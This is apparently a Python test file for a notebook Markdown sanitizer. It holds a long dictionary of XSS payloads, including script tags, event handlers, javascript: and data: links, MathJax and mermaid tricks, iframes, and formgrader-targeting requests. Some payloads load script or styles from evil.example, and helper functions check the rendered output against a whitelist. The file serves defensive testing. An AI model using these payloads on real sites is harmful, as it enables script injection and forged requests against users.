"""Ways to get a script into a page through a notebook, and what of a page acts."""

from tests import needs

needs.package("nh3")
BeautifulSoup = needs.package("bs4").BeautifulSoup

# It leaves nothing of the page.
ACT = "document.replaceChildren()"
MARKDOWN = {
    "script": f"<script>{ACT}</script>",
    "script_of_another_place": "<script src=//evil.example/x.js></script>",
    "script_in_capitals_across_lines": f"<ScRiPt\n>{ACT}</sCrIpT\n>",
    "script_after_broken_tags": f"<<p <scr<script>ipt>{ACT}</scr</script>ipt><p",
    "script_behind_a_comment": f"<!-- --!><script>{ACT}</script> -->",
    "script_in_a_title": f"<title><a title='</title><script>{ACT}</script>'>",
    "script_in_noscript": f'<noscript><p title="</noscript><script>{ACT}</script>">',
    "script_in_svg_style": f'<svg></p><style><a id="</style><img src=1 onerror={ACT}>">',
    "script_in_mathml": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">'
    ),
    "script_in_a_code_block": f"~~~\n</code></pre><script>{ACT}</script>\n~~~",
    "script_in_a_code_span": f"`</code><script>{ACT}</script>`",
    "script_in_a_language": f"```<script>{ACT}</script>\nx\n```",
    "script_in_mermaid": f"```mermaid\n</pre><script>{ACT}</script>\n```",
    "click_in_mermaid": f'```mermaid\ngraph TD\nA-->B\nclick A "javascript:{ACT}"\n```',
    "script_in_a_formula": f"$$</p><script>{ACT}</script>$$",
    "script_in_an_environment": f"\\begin{{equation}}<script>{ACT}</script>\\end{{equation}}",
    "script_in_a_heading": f"# <b onclick={ACT}>x</b> <script>{ACT}</script>",
    "script_in_a_table": f"|a|\n|-|\n|<img src=x onerror={ACT}>|",
    "image": f"<img src=x onerror={ACT}>",
    "image_of_markdown": f'![x" onerror="{ACT}](x)',
    "image_with_a_title": f"![x](x 'a\" onerror=\"{ACT}')",
    "image_that_asks_formgrader": "![x](/formgrader/?path=/tmp)",
    "image_that_is_svg": f"![x](data:image/svg+xml,<svg/onload={ACT}>)",
    "link": f"[x](javascript:{ACT})",
    "link_in_entities": f"[x](&#106;ava&Tab;script&colon;{ACT})",
    "link_in_brackets": f"[x](<java\tscript:{ACT}>)",
    "link_by_reference": f"[x][y]\n\n[y]: javascript:{ACT}",
    "link_by_itself": f"<javascript:{ACT}>",
    "link_to_data": f"[x](data:text/html,<script>{ACT}</script>)",
    "link_below_files": f'<a href="files/javascript:{ACT}">x</a> [x](files/javascript:{ACT})',
    "link_to_formgrader": "[x](http://localhost:8888/formgrader/?path=/tmp)",
    "link_of_html": f'<a href="vbscript:x" onmouseover="{ACT}">x</a>',
    "link_in_a_formula": f"$\\href{{javascript:{ACT}}}{{x}}$",
    "style_in_a_formula": "$\\style{position:fixed;inset:0}{x}$ $\\class{score}{x}$ $\\cssId{score}{x}$",
    "word_of_its_own_in_a_formula": "$\\def\\x#1{\\hr#1}\\x{ef}{javascript:x}{x}$",
    "frame": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    "frame_of_an_address": f'<iframe src="javascript:parent.{ACT}"></iframe>',
    "object": f'<object data="data:text/html,<script>{ACT}</script>"></object><embed src="javascript:{ACT}">',
    "svg": f"<svg onload={ACT}><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    "details": f"<details open ontoggle={ACT}><summary>x</summary></details>",
    "input": f"<input autofocus onfocus={ACT}>",
    "form": f'<form action="/formgrader/api/x" method=post><button formaction="javascript:{ACT}">x</button></form>',
    "base": '<base href="//evil.example/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{ACT}">',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example><p style='position:fixed'>",
    "names_of_the_page": '<img name="cookie"><p id="score" class="comment" title="x" data-toggle="x" data-link="x">',
    "template": f"<template><script>{ACT}</script></template><xmp><script>{ACT}</script></xmp>",
    "text_area": f"<textarea><script>{ACT}</script></textarea></textarea><script>{ACT}</script>",
    "attachment_that_is_not_there": "![x](attachment:none.png)",
    "attachment_that_is_html": "![x](attachment:page.png)",
    "attachment_that_is_svg": "![x](attachment:picture.svg)",
    "attachment_that_ends_its_place": "![x](attachment:quoted.png)",
    "nested_without_end": "<b>" * 1500 + f"<script>{ACT}</script>",
    "too_long_to_be_read": "x " * 2_500 + f"<script>{ACT}</script>",
    "many_brackets": "[" * 4_900 + f"](javascript:{ACT})",
}
ATTACHMENTS = {
    "page.png": {"text/html": f"<script>{ACT}</script>"},
    "picture.svg": {"image/svg+xml": f"<svg onload={ACT}></svg>"},
    "quoted.png": {"image/png": f'" onerror="{ACT}'},
    "good.png": {"image/png": "iVBORw0KGgo="},
}
HARMLESS = {"p", "br", "hr", "div", "span", "blockquote", "pre", "code", "em", "strong", "b", "i", "del", "sub", "sup"}
HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "img"}


def acting(markdown):
    """The elements in what a cell of Markdown has become that are more than text and how it is laid out."""
    for each in BeautifulSoup(markdown, "html.parser").find_all(True):
        others = [
            (name, value)
            for name, value in each.attrs.items()
            if not (name == "class" and "tex2jax_ignore" in value)
            and not (each.name == "img" and name == "alt")
            and not (each.name == "img" and name == "src" and value.startswith("data:image/png;"))
        ]
        if each.name not in HARMLESS or others:
            yield each.name, others


def acting_in_cells(page):
    """The same of every such cell of a page."""
    cells = BeautifulSoup(page, "html.parser").select(".text_cell_render")
    assert len(cells) > len(MARKDOWN)
    for cell in cells:
        yield from acting(cell.decode_contents())


def around_cells(page):
    """What kinds of elements, with what attributes, a page has around them, and what they refer to."""
    soup = BeautifulSoup(page, "html.parser")
    for cell in soup.select(".text_cell_render"):
        cell.clear()
    return {
        (each.name, *sorted(each.attrs), *(str(each.attrs.get(name)) for name in ("href", "src", "id", "type")))
        for each in soup.find_all(True)
    }
